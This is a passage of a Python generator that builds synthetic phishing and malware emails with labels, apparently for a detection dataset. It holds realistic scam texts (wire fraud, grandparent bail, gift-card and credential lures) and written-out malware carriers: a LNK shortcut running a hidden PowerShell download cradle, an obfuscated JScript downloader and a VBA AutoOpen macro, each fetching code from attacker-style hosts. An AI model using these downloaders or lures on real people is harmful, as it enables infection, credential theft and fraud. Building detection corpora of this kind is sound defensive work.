             "Your job is to help merchants improve app ranking by completing simple product rating tasks on our "
             "platform. Some premium task sets require a small top-up from your account that is returned with "
             "commission after completion.\n\nIf interested, please message our training coordinator on WhatsApp "
             "+1 (347) 815-2290 or Telegram @olivia_catalyst_hr with your name and the code CDP-77.\n\n"
             "Best regards,\nOlivia Brooks\nHR Recruitment Specialist\nCatalyst Digital Partners\n")
    html = ('<div dir="ltr">Hi Destiny,<br><br>I&#39;m Olivia from the recruitment team at Catalyst Digital '
            'Partners. We found your resume on Indeed and we think you would be a great fit for our remote '
            '<b>Online Product Evaluator</b> position.<br><br><ul><li>Fully remote, flexible hours (60-90 minutes '
            'per day)</li><li>$300 to $800 per day plus weekly bonus</li><li>No experience required, training '
            'provided</li><li>Payment in USD or USDT</li></ul>Your job is to help merchants improve app ranking by '
            'completing simple product rating tasks on our platform. Some premium task sets require a small top-up '
            'from your account that is returned with commission after completion.<br><br>If interested, please '
            'message our training coordinator on WhatsApp <b>+1 (347) 815-2290</b> or Telegram '
            '<b>@olivia_catalyst_hr</b> with your name and the code CDP-77.<br><br>Best regards,<br>Olivia Brooks'
            '<br>HR Recruitment Specialist<br>Catalyst Digital Partners</div>\n')
    headers = f"""MIME-Version: 1.0
From: Olivia Brooks <{sender}>
Date: {fmt(when)}
Message-ID: {gmail_msgid(seed)}
Subject: Remote Position - Online Product Evaluator ($300-$800/day)
To: {rcpt}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="gmail.com", policy="NONE",
               sp="QUARANTINE", headers=headers, body=alt(plain, html, bnd("gmail", seed)), seed=seed)
    add("phishing", "phish", "task-job-scam-usdt-whatsapp", raw,
        "Crypto 'task job' recruitment scam from a Gmail account: remote product-rating work paid in USDT that "
        "requires 'top-ups', moving the victim to WhatsApp/Telegram; no link or attachment.")


@sample
def a_pastor_gift_card():
    seed = "a-pst"
    rcpt = "joan.whitaker@yahoo.com"
    when = T("2025-12-11 09:18:02 -0600")
    sender = "pastor.mreynolds.office@gmail.com"
    out = gmail_out(sender, rcpt, when, seed)
    plain = ("Good morning Joan,\n\nAre you available? I need a quick favor from you. I'm in a meeting and can't "
             "take calls right now, just reply here.\n\nPastor Mike\nGrace Baptist Church\n")
    html = ('<div dir="ltr">Good morning Joan,<div><br></div><div>Are you available? I need a quick favor from you. '
            'I&#39;m in a meeting and can&#39;t take calls right now, just reply here.</div><div><br></div>'
            '<div>Pastor Mike</div><div>Grace Baptist Church</div></div>\n')
    headers = f"""MIME-Version: 1.0
From: Pastor Mike Reynolds <{sender}>
Date: {fmt(when)}
Message-ID: {gmail_msgid(seed)}
Subject: Quick favor
To: {rcpt}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="gmail.com", policy="NONE",
               sp="QUARANTINE", headers=headers, body=alt(plain, html, bnd("gmail", seed)), seed=seed)
    add("phishing", "phish", "pastor-quick-favor-giftcard", raw,
        "Church impersonation opener: a Gmail account named after the congregant's pastor asks 'are you "
        "available? I need a quick favor' - the first step of a gift-card scam; nothing but social engineering.")


@sample
def a_sharepoint_realtor():
    seed = "a-shp"
    rcpt = "ashley.brennan88@outlook.com"
    when = T("2025-02-04 16:02:11 -0600")
    tenant = "fosterrealtygroup"
    ip = "40.107." + str(num(seed + "ip", 200, 244)) + "." + str(num(seed + "ip2", 40, 140))
    helo = "NAM10-BN7-obe.outbound.protection.outlook.com"
    rdns = f"mail-bn7nam10on2{num(seed + 'r', 100, 199)}.outbound.protection.outlook.com"
    out = Out(helo, ip, rdns, "no-reply@sharepointonline.com",
              [f"Received: from BN0PR02MB{num(seed + 'b', 1000, 9999)}.namprd02.prod.outlook.com (2603:10b6:408:e6::{num(seed + 'b2', 10, 30)}) by\n"
               f" BN0PR02MB{num(seed + 'b3', 1000, 9999)}.namprd02.prod.outlook.com (2603:10b6:408:e6::{num(seed + 'b4', 10, 30)}) with Microsoft SMTP Server\n"
               f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id\n 15.20.8398.20; {utc(later(when, 1))}"])
    out.sigs = [Sig("sharepointonline.com", "selector1", ["From", "Date", "Subject", "Message-ID", "Content-Type",
                                                          "MIME-Version"], seed + "dk", when),
                Sig(f"{tenant}.onmicrosoft.com", f"selector1-{tenant}-onmicrosoft-com",
                    ["From", "Date", "Subject", "Message-ID", "Content-Type", "MIME-Version"], seed + "dk2", when)]
    share = (f"https://{tenant}-my.sharepoint.com/:b:/g/personal/dfoster_{tenant}_com/"
             f"E{url64(seed + 'sh', 44)}?e={alnum(seed + 'e', 6)}")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:\'Segoe UI\',Tahoma,sans-serif;max-width:560px;">'
            '<table cellpadding="0" cellspacing="0"><tr><td style="padding:16px 0;font-size:21px;color:#323130;">'
            'Danielle Foster shared a file with you</td></tr></table>'
            '<div style="background:#f3f2f1;padding:16px;font-size:14px;color:#323130;">'
            '<p style="margin:0 0 8px;">&quot;Hi Ashley, as discussed please review the final closing disclosure and '
            'sign before Friday. Thanks!&quot;</p></div>'
            '<table style="margin:18px 0;border:1px solid #edebe9;" cellpadding="12"><tr><td>'
            '<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240925.001/assets/item-types/48/pdf.png" '
            'width="36" alt="pdf"></td><td style="font-size:15px;"><a href="' + share + '" style="color:#0078d4;'
            'text-decoration:none;">Closing Disclosure - 1148 Maple Ridge Dr.pdf</a></td></tr></table>'
            f'<p><a href="{share}" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none;'
            'font-size:14px;">Open</a></p>'
            '<p style="font-size:12px;color:#605e5c;">This link only works for the direct recipients of this '
            'message.</p><p style="font-size:12px;color:#605e5c;">Microsoft respects your privacy. To learn more, '
            'please read our <a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>.<br>'
            'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></div></body></html>\n')
    plain = ("Danielle Foster shared a file with you\n\n\"Hi Ashley, as discussed please review the final closing "
             "disclosure and sign before Friday. Thanks!\"\n\nClosing Disclosure - 1148 Maple Ridge Dr.pdf\n"
             f"{share}\n\nThis link only works for the direct recipients of this message.\n")
    headers = f"""From: "Danielle Foster (via SharePoint Online)" <no-reply@sharepointonline.com>
Reply-To: Danielle Foster <dfoster@fosterrealtygroup.com>
To: {rcpt}
Subject: Danielle Foster shared "Closing Disclosure - 1148 Maple Ridge Dr" with you
Date: {fmt(when)}
Message-ID: <{hexs(seed + 'mid', 8)}-{hexs(seed + 'mid2', 4)}-{hexs(seed + 'mid3', 4)}-{hexs(seed + 'mid4', 4)}-{hexs(seed + 'mid5', 12)}@odspnotify>
X-MS-Exchange-Organization-AuthAs: Internal
X-MS-Exchange-Organization-OriginalClientIPAddress: 10.20.{num(seed + 'oc', 1, 250)}.{num(seed + 'oc2', 1, 250)}
X-MS-SharePoint-Tenant: {tenant}
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="sharepointonline.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("outlook", seed)), seed=seed)
    add("phishing", "phish", "sharepoint-closing-disclosure-compromised", raw,
        "Genuine SharePoint Online sharing notification from a compromised real-estate brokerage tenant (all "
        "checks pass) to a client expecting a closing: the shared PDF leads on to a Microsoft credential phish.")


@sample
def a_title_wire_reply_hijack():
    seed = "a-wire"
    rcpt = "matt.and.kelsey.ortiz@gmail.com"
    when = T("2025-06-23 10:41:09 -0400")
    real = "summittitlellc.com"
    fake = "summittitle-llc.com"
    sender = f"jessica.lane@{fake}"
    out = m365_out(sender, when, seed, custom_dkim=True)
    mh = m365_headers(seed, when)
    pdf = files.pdf(["SUMMIT TITLE, LLC", "Escrow Department - 2200 Wilson Blvd, Suite 410, Arlington VA 22201", "",
                     "WIRING INSTRUCTIONS - UPDATED 06/23/2025", "",
                     "File No: ST-25-" + digits(seed + "f", 5), "Property: 83 Linden Ct, Falls Church VA 22046",
                     "Buyer(s): Matthew Ortiz, Kelsey Ortiz", "",
                     "Receiving Bank: Coastal Community Bank, Everett WA",
                     "Routing (ABA): 125109019", "Account Name: Summit Title Escrow Services",
                     "Account No: 8771" + digits(seed + "acct", 6), "Amount: $112,480.37", "",
                     "Note: Our previous escrow account is under audit. Please use ONLY these",
                     "instructions. Call-back verification is not available this week due to",
                     "the office move; reply to this email with the Fed reference after sending."],
                    title="Wiring Instructions")
    quoted = ("From: Jessica Lane <jessica.lane@" + real + ">\nSent: Friday, June 20, 2025 3:12 PM\n"
              "To: Matt Ortiz <matt.and.kelsey.ortiz@gmail.com>\nCc: Brian Kessler <bkessler@novarealtyva.com>\n"
              "Subject: RE: 83 Linden Ct - closing Thursday 6/26\n\n"
              "Hi Matt,\n\nThe settlement statement is attached. Your cash to close is $112,480.37. I'll send wiring "
              "instructions early next week. Closing is confirmed for Thursday 6/26 at 2:00 PM at our office.\n\n"
              "Jessica\n\n"
              "From: Matt Ortiz <matt.and.kelsey.ortiz@gmail.com>\nSent: Friday, June 20, 2025 11:47 AM\n"
              "Subject: Re: 83 Linden Ct - closing Thursday 6/26\n\n"
              "Thanks Jessica! Do you have the final number yet so we can plan the wire?\n")
    plain = ("Hi Matt and Kelsey,\n\nAs promised, attached are the wiring instructions for your cash to close. "
             "Please note we updated our escrow account this month, so please disregard any instructions you may "
             "have received earlier. The wire needs to be received by Wednesday 6/25 so we can fund on time.\n\n"
             "Let me know once it's sent and I will confirm receipt.\n\nThank you,\n\nJessica Lane\n"
             "Escrow Officer | Summit Title, LLC\nO: (703) 555-0148\n\n" + quoted)
    qhtml = quoted.replace("\n", "<br>\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:#000;">'
            'Hi Matt and Kelsey,<br><br>As promised, attached are the wiring instructions for your cash to close. '
            'Please note we updated our escrow account this month, so please disregard any instructions you may '
            'have received earlier. The wire needs to be received by <b>Wednesday 6/25</b> so we can fund on '
            'time.<br><br>Let me know once it&#39;s sent and I will confirm receipt.<br><br>Thank you,<br><br>'
            '<b>Jessica Lane</b><br>Escrow Officer | Summit Title, LLC<br>O: (703) 555-0148</div>'
            '<div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1">'
            f'<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt">{qhtml}'
            '</font></div></body></html>\n')
    headers = f"""From: Jessica Lane <{sender}>
To: Matt Ortiz <{rcpt}>
CC: Brian Kessler <bkessler@novarea1tyva.com>
Subject: RE: 83 Linden Ct - closing Thursday 6/26
Thread-Topic: 83 Linden Ct - closing Thursday 6/26
Thread-Index: {mh['thread_index']}
Date: {fmt(when)}
Message-ID: {mh['msgid']}
References: <{gmail_msgid(seed + 'r1')[1:-1]}>
 <{m365_headers(seed + 'r2', when)['msgid'][1:-1]}>
In-Reply-To: {m365_headers(seed + 'r2', when)['msgid']}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
x-ms-publictraffictype: Email
x-ms-office365-filtering-correlation-id: {mh['corr']}
MIME-Version: 1.0"""
    body = mixed(bnd("outlook", seed + "m"), [alt(plain, html, bnd("outlook", seed + "a")),
                                             attachment("application/pdf", "Wiring Instructions - 83 Linden Ct.pdf", pdf)])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=fake, policy="NONE", headers=headers,
               body=body, seed=seed)
    add("phishing", "phish", "title-company-wire-instructions-hijack", raw,
        "Real-estate closing wire fraud: a reply-chain hijack from a look-alike title-company domain "
        "(summittitle-llc.com vs summittitlellc.com, its own Microsoft 365 tenant so authentication passes) with "
        "'updated' wiring instructions for $112,480 and no call-back allowed.")


@sample
def a_icloud_storage_full():
    seed = "a-icl"
    rcpt = "denise.calloway@me.com"
    when = T("2025-10-15 14:57:32 -0400")
    dom = "cloudplans-billing.net"
    out = postfix_out(f"send{num(seed + 's', 1, 40)}.{dom}", "5.253.59." + str(num(seed + "ip", 10, 250)),
                      f"rtn@{dom}", rcpt, when, seed)
    out.sigs = [Sig(dom, "s2", ["from", "to", "subject", "date", "message-id", "list-unsubscribe"], seed + "dk", when)]
    link = "https://rebrand.ly/icl0ud-" + lower(seed + "rb", 6)
    html = ('<html><body style="margin:0;background:#fff;font-family:-apple-system,Helvetica,Arial,sans-serif;">'
            '<table width="560" align="center" cellpadding="0" cellspacing="0"><tr><td style="padding:30px 0 10px;'
            'text-align:center;font-size:26px;color:#1d1d1f;">&#63743; iCloud</td></tr>'
            '<tr><td style="text-align:center;font-size:22px;color:#1d1d1f;padding:10px 20px;">'
            '<b>Your storage is full.</b><br>Your photos and videos will be deleted!</td></tr>'
            '<tr><td style="padding:16px 30px;font-size:15px;color:#333;line-height:22px;">Dear Customer,<br><br>'
            'Your payment method has expired and we were unable to renew your iCloud+ plan. Your account has '
            'reached 5 GB of 5 GB. As a loyal customer, you can get an extra <b>50 GB for free</b> before your '
            'files are removed on <b>10/17/2025</b>.</td></tr>'
            f'<tr><td align="center" style="padding:14px;"><a href="{link}" style="background:#0071e3;color:#fff;'
            'padding:12px 30px;border-radius:22px;text-decoration:none;font-size:16px;">Get 50 GB Free</a></td></tr>'
            '<tr><td style="padding:30px;font-size:10px;color:#999;text-align:center;">You are receiving this '
            f'message because you subscribed to storage offers. <a href="https://{dom}/unsub?u={hexs(seed + "u", 14)}" '
            'style="color:#999;">Unsubscribe</a><br>16192 Coastal Hwy, Lewes DE 19958</td></tr></table>'
            '</body></html>\n')
    plain = ("iCloud\n\nYour storage is full. Your photos and videos will be deleted!\n\nYour payment method has "
             "expired and we were unable to renew your iCloud+ plan. As a loyal customer, you can get an extra 50 GB "
             f"for free before your files are removed on 10/17/2025.\n\nGet 50 GB Free: {link}\n")
    headers = f"""From: {enc("iCloud ☁️", "B")} <support@{dom}>
To: {rcpt}
Subject: {enc("⚠️ Your iCloud storage is full - photos will be deleted", "B")}
Date: {fmt(when)}
Message-ID: <{hexs(seed + 'mid', 24)}@{dom}>
List-Unsubscribe: <https://{dom}/unsub?u={hexs(seed + 'u', 14)}>
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "icloud-storage-full-rebrandly", raw,
        "'iCloud storage full, photos will be deleted' subscription-trap phish to an me.com user from a snowshoe "
        "domain, via a rebrand.ly shortener to a card-collecting 'free 50 GB' page.")


@sample
def a_netflix_es_weebly():
    seed = "a-nfx"
    rcpt = "rosario.quintanilla@live.com"
    when = T("2025-01-14 20:08:41 -0600")
    dom = "notify.trailmixapp.io"
    out = ses_out("trailmixapp.io", "mail.trailmixapp.io", rcpt, when, seed, selector="tmx1")
    link = "https://netflix-cuenta-suspendida.weebly.com/"
    html = ('<html><body style="margin:0;background:#f3f3f3;"><table width="100%"><tr><td align="center">'
            '<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Helvetica,'
            'Arial,sans-serif;color:#221f1f;"><tr><td style="padding:24px 32px;color:#e50914;font-size:32px;'
            'font-weight:bold;letter-spacing:1px;">NETFLIX</td></tr>'
            '<tr><td style="padding:0 32px;font-size:26px;font-weight:bold;">Tu cuenta est&aacute; en espera</td></tr>'
            '<tr><td style="padding:16px 32px;font-size:15px;line-height:22px;">Hola:<br><br>Tuvimos problemas con '
            'tu m&eacute;todo de pago actual y no pudimos procesar el cobro de tu membres&iacute;a. Actualiza tu '
            'informaci&oacute;n de pago para seguir disfrutando de tus series y pel&iacute;culas favoritas. Si no '
            'actualizas en 48 horas, tu cuenta ser&aacute; cancelada.</td></tr>'
            f'<tr><td style="padding:10px 32px 30px;"><a href="{link}" style="display:block;background:#e50914;'
            'color:#fff;text-align:center;padding:14px;text-decoration:none;font-size:16px;font-weight:bold;">'
            'ACTUALIZAR CUENTA</a></td></tr>'
            '<tr><td style="padding:16px 32px;font-size:11px;color:#8c8c8c;">El equipo de Netflix<br>'
            'Netflix, Inc. 121 Albright Way, Los Gatos, CA 95032</td></tr></table></td></tr></table></body></html>\n')
    plain = ("NETFLIX\n\nTu cuenta está en espera\n\nHola:\n\nTuvimos problemas con tu método de pago actual y no "
             "pudimos procesar el cobro de tu membresía. Actualiza tu información de pago. Si no actualizas en 48 "
             f"horas, tu cuenta será cancelada.\n\nACTUALIZAR CUENTA: {link}\n\nEl equipo de Netflix\n")
    headers = f"""Subject: {enc("Tu cuenta está en espera: actualiza tu pago", "Q")}
From: Netflix <no-reply@{dom}>
To: {rcpt}
MIME-Version: 1.0
Message-ID: {out.msgid}
Date: {fmt(when)}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="trailmixapp.io", policy="NONE",
               headers=headers, body=alt(plain, html, bnd("ses", seed)), seed=seed)
    add("phishing", "phish", "netflix-cuenta-en-espera-es", raw,
        "Spanish Netflix 'account on hold' payment phish sent through a startup's hijacked Amazon SES account "
        "(authenticated subdomain of trailmixapp.io) to a live.com user, landing on a Weebly-hosted form.")


@sample
def a_friend_aol_dropbox():
    seed = "a-dbx"
    rcpt = "sue.ellen.parker@yahoo.com"
    when = T("2025-09-02 07:55:20 -0400")
    sender = "gailrichter1956@aol.com"
    out = yahoo_out(sender, when, seed, aol=True)
    link = (f"https://www.dropbox.com/scl/fi/{lower(seed + 'fi', 25)}/Shared-Documents.paper?"
            f"rlkey={lower(seed + 'rl', 25)}&st={lower(seed + 'st', 8)}&dl=0")
    html = ('<html><head></head><body><div class="aolmail_yahoo-style-wrap" style="font-family:Helvetica Neue, '
            'Helvetica, Arial, sans-serif;font-size:13px;"><div dir="ltr" data-setdir="false">Hi,</div>'
            '<div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">I&#39;ve shared some '
            'important documents with you through Dropbox. Please take a look when you get a chance and let me '
            'know what you think.</div><div dir="ltr" data-setdir="false"><br></div>'
            f'<div dir="ltr" data-setdir="false"><a href="{link}" rel="nofollow" target="_blank">View documents'
            '</a></div><div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Gail</div>'
            '<div dir="ltr" data-setdir="false"><br></div></div><div id="ymail_android_signature">Sent from AOL on '
            'Android</div></body></html>\n')
    plain = ("Hi,\n\nI've shared some important documents with you through Dropbox. Please take a look when you get a "
             f"chance and let me know what you think.\n\nView documents <{link}>\n\nGail\n\nSent from AOL on Android\n")
    headers = f"""Date: {fmt(when)}
From: Gail Richter <{sender}>
To: "sue.ellen.parker@yahoo.com" <{rcpt}>
Message-ID: {yahoo_msgid(seed, when).replace('@mail.yahoo.com', '@mail.yahoo.com')}
Subject: Shared Documents
MIME-Version: 1.0
X-Mailer: WebService/1.1.24264 AolMailAndroidMobile"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="aol.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("yahoo", seed)), seed=seed)
    add("phishing", "phish", "friend-aol-dropbox-paper", raw,
        "A friend's hijacked AOL account (passes all checks) mails its whole address book a vague 'shared "
        "documents' note linking to a real Dropbox Paper page that forwards to a Yahoo/AOL credential phish.")


@sample
def a_grandparent():
    seed = "a-gpa"
    rcpt = "nana.dorothy.w@aol.com"
    when = T("2025-03-08 23:41:57 -0500")
    sender = "tyler.w.newphone@gmail.com"
    out = gmail_out(sender, rcpt, when, seed)
    plain = ("Grandma it's Tyler. I lost my phone so I'm using this email from a friend's laptop. I'm in really big "
             "trouble and I need your help but please PLEASE don't tell mom and dad, I'll explain everything "
             "later.\n\nI was in a car accident in Tennessee with some friends and the police found something in the "
             "car that wasn't mine. My lawyer Mr. Daniel Lewis says I need $8,500 for bail tonight or I stay in "
             "jail until Monday. He will call you at your house number in a few minutes and tell you how to send "
             "it. Please answer.\n\nI love you so much. I'm so sorry.\n\nTyler\n")
    html = "<div dir=\"auto\">" + plain.replace("\n\n", "</div><div dir=\"auto\"><br></div><div dir=\"auto\">") + \
        "</div>\n"
    headers = f"""MIME-Version: 1.0
From: Tyler W <{sender}>
Date: {fmt(when)}
Message-ID: {gmail_msgid(seed)}
Subject: grandma please read its me
To: {rcpt}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="gmail.com", policy="NONE",
               sp="QUARANTINE", headers=headers, body=alt(plain, html, bnd("gmail", seed)), seed=seed)
    add("phishing", "phish", "grandparent-bail-scam", raw,
        "Grandparent scam by e-mail: a new Gmail account poses as the grandson in jail after an accident, asks for "
        "$8,500 bail and secrecy, and announces a call from a 'lawyer'.")


# ============================================================================================
# ATTACKS: malware carriers
# ============================================================================================

@sample
def m_reunion_photos_lnk():
    seed = "m-lnk"
    rcpt = "carol.ann.bixby@gmail.com"
    when = T("2025-08-19 14:03:28 -0500")
    sender = "judy.kowalski48@yahoo.com"
    out = yahoo_out(sender, when, seed)
    lnk = files.lnk_shortcut(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "-w hidden -nop -ep bypass -c \"$u='https://cdn-photoshare.fotobox-online.com/g/ph.ps1';"
        "iex ((New-Object Net.WebClient).DownloadString($u)); Start-Process "
        "\\\"$env:TEMP\\IMG_0712.jpg\\\"\"")
    decoy = files.photo_jpeg(12, (480, 320))
    zipped = files.zip_archive([("Reunion Photos 2025/IMG_0712.jpg.lnk", lnk),
                                ("Reunion Photos 2025/IMG_0713.jpg.lnk", lnk),
                                ("Reunion Photos 2025/thumb.jpg", decoy)])
    html = ('<html><head></head><body><div class="yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, '
            'Arial, sans-serif;font-size:16px;"><div dir="ltr" data-setdir="false">Hi Carol,</div>'
            '<div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Here are the pictures '
            'from the reunion! Some of them came out really good. Let me know if you want the big ones printed. '
            '\U0001F60A</div><div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">'
            'Love,</div><div dir="ltr" data-setdir="false">Judy</div></div></body></html>\n')
    plain = ("Hi Carol,\n\nHere are the pictures from the reunion! Some of them came out really good. Let me know if "
             "you want the big ones printed. \U0001F60A\n\nLove,\nJudy\n")
    headers = f"""Date: {fmt(when)}
From: Judy Kowalski <{sender}>
To: Carol Bixby <{rcpt}>
Message-ID: {yahoo_msgid(seed, when)}
Subject: Reunion pictures
MIME-Version: 1.0
X-Mailer: WebService/1.1.24187 YMailNorrin"""
    body = mixed(bnd("yahoo", seed + "m"), [alt(plain, html, bnd("yahoo", seed + "a")),
                                           attachment("application/zip", "Reunion Photos 2025.zip", zipped)])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="yahoo.com", policy="REJECT",
               headers=headers, body=body, seed=seed)
    add("malware", "phish", "reunion-photos-zip-lnk", raw,
        "A friend's hijacked Yahoo account sends 'reunion pictures' as a ZIP whose 'IMG_0712.jpg.lnk' shortcuts "
        "run a hidden PowerShell download cradle (decoy JPEG included); authentication passes.")


@sample
def m_ups_invoice_js():
    seed = "m-js"
    rcpt = "p.gallagher@comcast.net"
    when = T("2024-11-26 08:17:43 -0500")
    sender = "billing@northridgecabinetryco.com"
    out = exim_out("sh-ord1-27.hostwindsdns.com", "104.168.135." + str(num(seed + "ip", 10, 250)), sender, rcpt, when,
                   seed, client_ip="185.196.9.41", auth_user=sender)
    trk = "1Z" + alnum(seed + "trk", 16).upper()
    js = ("// UPS invoice viewer\r\n"
          "var _0x4f2a=['WScript.Shell','MSXML2.ServerXMLHTTP.6.0','ADODB.Stream','%APPDATA%\\\\upsinv.dll',"
          "'https://invoice-ups-view.duckdns.org/inv/" + hexs(seed + "p", 12) + ".bin','rundll32 '];\r\n"
          "var sh=new ActiveXObject(_0x4f2a[0]);var x=new ActiveXObject(_0x4f2a[1]);\r\n"
          "x.open('GET',_0x4f2a[4],false);x.send();\r\n"
          "if(x.status==200){var s=new ActiveXObject(_0x4f2a[2]);s.Type=1;s.Open();s.Write(x.responseBody);\r\n"
          "var p=sh.ExpandEnvironmentStrings(_0x4f2a[3]);s.SaveToFile(p,2);s.Close();\r\n"
          "sh.Run(_0x4f2a[5]+p+',DllRegisterServer',0,false);}\r\n")
    zipped = files.zip_archive([(f"UPS_Invoice_{trk}.js", js.encode())])
    plain = (f"Dear Customer,\n\nPlease find attached the invoice for shipment {trk}. An outstanding duty and "
             "brokerage balance of $37.82 must be settled before delivery can be completed.\n\n"
             "Open the attached file to view the invoice and payment options.\n\nUPS Billing Center\n"
             "United Parcel Service of America, Inc.\n")
    headers = f"""Date: {fmt(when)}
To: {rcpt}
From: UPS Billing Center <{sender}>
Subject: UPS Invoice for shipment {trk}
Message-ID: <{alnum(seed + 'mid', 43)}@northridgecabinetryco.com>
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    body = mixed(bnd("php", seed), [text(plain), attachment("application/zip", f"UPS_Invoice_{trk}.zip", zipped)])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom="northridgecabinetryco.com",
               policy="NONE", headers=headers, body=body, seed=seed)
    add("malware", "phish", "ups-invoice-zip-js", raw,
        "UPS duty 'invoice' sent from a compromised cabinetry shop's hosting mailbox to a Comcast user with a ZIP "
        "containing an obfuscated JScript downloader (WScript/ADODB, rundll32 payload).")


@sample
def m_tax_organizer_docm():
    seed = "m-docm"
    rcpt = "ken.and.linda.voss@gmail.com"
    when = T("2025-02-20 10:28:14 -0600")
    dom = "hillcrest-taxservices.com"
    sender = f"office@{dom}"
    out = Out("mail.privateemail.com", "198.54.127." + str(num(seed + "ip", 50, 99)), "mta-" + str(num(seed + "m", 10, 40)) + ".privateemail.com",
              sender, [f"Received: from [10.0.0.14] (unknown [154.47.21.{num(seed + 'c', 10, 250)}])\n\tby "
                       f"mail.privateemail.com (Postfix) with ESMTPSA id 4Yz{alnum(seed + 'pe', 8)}\n\tfor <{rcpt}>; {fmt(when)}"])
    out.helo = out.rdns
    out.sigs = [Sig(dom, "default", ["From", "Reply-To", "Subject", "Date", "Message-ID", "To", "MIME-Version",
                                     "Content-Type"], seed + "dk", when)]
    macro = ('Attribute VB_Name = "ThisDocument"\r\n'
             "Sub AutoOpen()\r\n    Organizer\r\nEnd Sub\r\n"
             "Sub Document_Open()\r\n    Organizer\r\nEnd Sub\r\n"
             "Private Sub Organizer()\r\n"
             "    Dim c As String\r\n"
             "    c = \"powershell -w hidden -enc \" & ActiveDocument.Variables(\"k\").Value\r\n"
             "    c = Replace(c, \"#\", \"\")\r\n"
             "    CreateObject(\"WScript.Shell\").Run \"cmd /c \" & c, 0, False\r\n"
             "    Dim x: Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
             "    x.Open \"GET\", \"https://taxdocs-portal.hillcrest-taxservices.com/org/2024.bin\", False\r\n"
             "    x.Send\r\nEnd Sub\r\n")
    doc = files.docx(["HILLCREST TAX SERVICES", "2024 Individual Tax Organizer",
                      "This document is protected. To view the content, click Enable Editing and then Enable Content.",
                      "Please complete all sections and return before March 15, 2025."],
                     "2024 Tax Organizer", "Hillcrest Tax", macro=macro)
    plain = ("Hello Ken and Linda,\n\nThank you for choosing Hillcrest Tax Services again this year. Please find "
             "attached your 2024 Tax Organizer. Kindly open it on a computer (Windows), enable content so the "
             "fillable fields work, and return it with your W-2s and 1099s so we can start on your return.\n\n"
             "Best regards,\nSandra Pruitt, EA\nHillcrest Tax Services\n(512) 555-0187\n")
    html = ('<html><body><div style="font-family:Arial,sans-serif;font-size:10pt;">Hello Ken and Linda,<br><br>'
            'Thank you for choosing Hillcrest Tax Services again this year. Please find attached your 2024 Tax '
            'Organizer. Kindly open it on a computer (Windows), <b>enable content</b> so the fillable fields work, '
            'and return it with your W-2s and 1099s so we can start on your return.<br><br>Best regards,<br>'
            'Sandra Pruitt, EA<br>Hillcrest Tax Services<br>(512) 555-0187</div></body></html>\n')
    headers = f"""Message-ID: <{hexs(seed + 'mid', 8)}-{hexs(seed + 'mid2', 4)}-{hexs(seed + 'mid3', 4)}-{hexs(seed + 'mid4', 4)}-{hexs(seed + 'mid5', 12)}@{dom}>
Date: {fmt(when)}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-US
To: {rcpt}
From: Sandra Pruitt <{sender}>
Subject: 2024 Tax Organizer - please complete and return"""
    body = mixed(bnd("tbird", seed + "m"), [alt(plain, html, bnd("tbird", seed + "a")),
                                           attachment("application/vnd.ms-word.document.macroEnabled.12",
                                                      "2024_Tax_Organizer_Voss.docm", doc)])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=body, seed=seed)
    add("malware", "phish", "tax-organizer-docm-macro", raw,
        "Tax-season lure from a look-alike tax-preparer domain: a macro-enabled Word 'Tax Organizer' (.docm) whose "
        "AutoOpen macro launches hidden PowerShell and fetches a payload; the body insists on enabling content.")


@sample
def m_amazon_order_iso():
    seed = "m-iso"
    rcpt = "gary.lindqvist@msn.com"
    when = T("2024-12-03 17:46:05 -0800")
    dom = "amzn-orderdesk.com"
    out = postfix_out(f"mx.{dom}", "45.61.136." + str(num(seed + "ip", 10, 250)), f"orders@{dom}", rcpt, when, seed)
    order = f"112-{digits(seed + 'o1', 7)}-{digits(seed + 'o2', 7)}"
    iso = files.iso_image([(f"Order_{order}.exe", files.pe_stub()),
